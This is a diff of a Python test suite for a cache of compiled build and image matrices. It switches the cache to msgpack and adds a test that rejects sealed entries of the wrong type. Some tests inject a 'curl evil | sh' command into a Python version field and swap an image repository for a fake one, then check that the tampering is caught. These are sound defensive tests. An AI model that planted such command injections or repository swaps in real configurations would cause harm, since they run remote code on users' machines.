@@ -11,6 +11,7 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+import msgspec
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
@@ -56,7 +57,7 @@ def test_compiled_matrix_cache_garbage(content: bytes) -> None:
     matrix._load_cached.cache_clear()
     assert cli(["check", "--gfx", "gfx942", "--quiet"]).code in (0, 1)  # writes the entry
     entries = _compiled_entries()
-    assert entries and all(e.suffix == ".json" for e in entries)
+    assert entries and all(e.suffix == ".msgpack" for e in entries)
     for entry in entries:
         entry.write_bytes(content)
     matrix._load_cached.cache_clear()
@@ -67,10 +68,11 @@ def test_compiled_matrix_cache_garbage(content: bytes) -> None:
 
 
 def _edit_entry(entry: Path, edit: Callable[[dict[str, Any]], None]) -> None:
+    """Edit the records of an entry (a msgpack (format, matrix) pair), keeping its old seal."""
     seal, _, payload = entry.read_bytes().partition(b"\n")
-    doc = json.loads(payload)
+    fmt, doc = msgspec.msgpack.decode(payload)
     edit(doc)
-    entry.write_bytes(seal + b"\n" + json.dumps(doc, separators=(",", ":")).encode())
+    entry.write_bytes(seal + b"\n" + msgspec.msgpack.encode([fmt, doc]))
 
 
 def test_compiled_entry_with_altered_records_is_revalidated() -> None:
@@ -80,12 +82,29 @@ def test_compiled_entry_with_altered_records_is_revalidated() -> None:
     (entry,) = _compiled_entries()
 
     def poison(doc: dict[str, Any]) -> None:
-        doc["files"]["wheels.toml"][0]["python"] = ["3.12; curl evil | sh"]
+        doc["wheels"][0]["python"] = ["3.12; curl evil | sh"]
 
     _edit_entry(entry, poison)
     matrix._load_cached.cache_clear()
     m = matrix.load()
     assert all(";" not in p for w in m.wheels for p in w.python)
+
+
+def test_sealed_entry_of_the_wrong_types_is_a_miss() -> None:
+    """Even an entry sealed with this user's key is decoded against the record types: a field of
+    the wrong type (a Python list that is a number) makes it a miss, and the TOML is read again."""
+    matrix._load_cached.cache_clear()
+    first = matrix.load()
+    (entry,) = _compiled_entries()
+    _, _, payload = entry.read_bytes().partition(b"\n")
+    fmt, doc = msgspec.msgpack.decode(payload)
+    doc["wheels"][0]["python"] = 312
+    forged = msgspec.msgpack.encode([fmt, doc])
+    key = matrix._seal_key()
+    assert key is not None
+    entry.write_bytes(matrix._seal(key, forged).encode() + b"\n" + forged)
+    matrix._load_cached.cache_clear()
+    assert matrix.load() == first
 
 
 def test_compiled_entry_with_valid_but_altered_records_is_not_served() -> None:
@@ -96,7 +115,7 @@ def test_compiled_entry_with_valid_but_altered_records_is_not_served() -> None:
     (entry,) = _compiled_entries()
 
     def poison(doc: dict[str, Any]) -> None:
-        for image in doc["files"]["images.toml"]:
+        for image in doc["images"]:
             image["repo"] = "evil/vllm-openai-rocm"
 
     _edit_entry(entry, poison)
